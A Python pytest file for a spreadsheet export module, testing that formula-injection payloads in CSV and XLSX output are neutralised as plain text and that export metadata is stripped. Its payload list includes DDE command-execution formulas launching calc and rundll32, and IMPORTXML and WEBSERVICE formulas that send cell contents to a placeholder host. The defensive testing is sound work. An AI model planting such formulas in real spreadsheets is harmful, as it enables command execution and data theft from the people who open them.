import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from api.kit.spreadsheets.writing import Sheet, neutralise, sheet_name, write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
    "⁼1+1",
    "⁺1",
    "⁻1",
    "\u22121+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.example","klik")',
    '=IMPORTXML(CONCAT("http://contoh.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://contoh.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=";=1+1"',
    '="\r\n=1+1"',
    "--1",
    "=+-@",
    "-",
    "=",
    '=A1&";=B1"',
    "@",
]
HARMLESS = [
    "Budi",
    "S.E., M.Si.",
    "1990",
    "",
    " ",
    "a=b",
    "III/a",
    "'=1",
    "<b>",
    "http://contoh.example",
    "−".join("ab"),
]


def lines(data: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


class TestNeutralise:
    def test_there_are_at_least_forty_payloads(self) -> None:
        assert len(set(PAYLOADS)) >= 40

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_a_payload_becomes_text_and_stays_whole(self, payload: str) -> None:
        assert neutralise(payload) == "'" + payload

    @pytest.mark.parametrize("text", HARMLESS)
    def test_other_texts_stay_as_they_are(self, text: str) -> None:
        assert neutralise(text) == text

    @given(st.text())
    def test_doing_it_twice_changes_nothing_more(self, text: str) -> None:
        assert neutralise(neutralise(text)) == neutralise(text)


class TestWriteCsv:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_no_payload_begins_a_cell(self, payload: str) -> None:
        assert lines(write_csv(["Nama", "Ket"], [[payload, "x"]])) == [["Nama", "Ket"], ["'" + payload, "x"]]

    def test_excel_recognises_the_encoding_and_the_line_ends(self) -> None:
        data = write_csv(["Nama"], [["Zubaïdah"]])
        assert data == b'\xef\xbb\xbf"Nama"\r\n"Zuba\xc3\xafdah"\r\n'

    def test_quotes_delimiters_and_line_ends_survive(self) -> None:
        row = ['a"b', "c;d", "e\r\nf", "g,h"]
        assert lines(write_csv(list("1234"), [row]))[1] == row

    def test_another_delimiter_can_be_asked_for(self) -> None:
        assert lines(write_csv(["a", "b"], [["1,2", "3"]], delimiter=","), ",")[1] == ["1,2", "3"]

    def test_every_text_is_quoted_so_that_no_other_delimiter_splits_it(self) -> None:
        assert b'"x,=1+1"' in write_csv(["a"], [["x,=1+1"]])

    def test_numbers_stay_numbers_and_dates_are_iso(self) -> None:
        row = [-5, Decimal("4.50"), date(2026, 1, 2), True, None]
        assert write_csv([], [row]).splitlines()[1] == b'-5,4.50,"2026-01-02","TRUE",""'.replace(b",", b";")

    def test_headings_are_neutralised_too(self) -> None:
        assert lines(write_csv(["=1+1"], []))[0] == ["'=1+1"]

    @given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4), max_size=4))
    def test_any_text_can_be_read_back(self, rows: list[list[str]]) -> None:
        assert lines(write_csv(["a"], rows))[1:] == [[neutralise(cell) for cell in row] for row in rows]


class TestWriteXlsx:
    def members(self, data: bytes) -> dict[str, str]:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return {name: archive.read(name).decode() for name in archive.namelist()}

    def test_payloads_are_texts_neither_formulas_nor_links(self) -> None:
        texts = [*PAYLOADS, "http://contoh.example", "mailto:a@contoh.example", "internal:Data!A1", "12345", "{=1+1}"]
        data = write_xlsx([Sheet("Data", ["Nama"], [[text] for text in texts])])
        members = self.members(data)
        assert not any("<f>" in content or "<hyperlink" in content for content in members.values())
        cells = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
        assert [row[0] for row in cells[1:]] == texts

    def test_nothing_tells_who_wrote_it_or_when(self) -> None:
        core = self.members(write_xlsx([Sheet("Data", ["a"], [["b"]])]))["docProps/core.xml"]
        assert "<dc:creator></dc:creator>" in core
        assert "<cp:lastModifiedBy></cp:lastModifiedBy>" in core
        assert core.count("1980-01-01T00:00:00Z") == 2

    def test_the_same_content_gives_the_same_bytes(self) -> None:
        sheets = [Sheet("Data", ["a"], [["b", 1, date(2026, 1, 2), Decimal("1.5"), True, None]])]
        assert write_xlsx(sheets) == write_xlsx(sheets)

    def test_numbers_dates_and_texts_keep_their_kind(self) -> None:
        data = write_xlsx([Sheet("Data", list("abcde"), [["001", 1, date(2026, 1, 2), Decimal("1.5"), True]])])
        assert CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()[1] == [
            "001",
            1.0,
            date(2026, 1, 2),
            1.5,
            True,
        ]

    def test_a_text_that_does_not_fit_is_an_error_rather_than_lost(self) -> None:
        with pytest.raises(ValueError, match="cannot hold"):
            write_xlsx([Sheet("Data", ["a"], [["x" * 32_768]])])

    def test_sheet_names_are_made_acceptable(self) -> None:
        assert sheet_name("Seksi A/B: [x]*?") == "Seksi A B   x"
        assert sheet_name("'") == "Data"
        assert len(sheet_name("x" * 40)) == 31
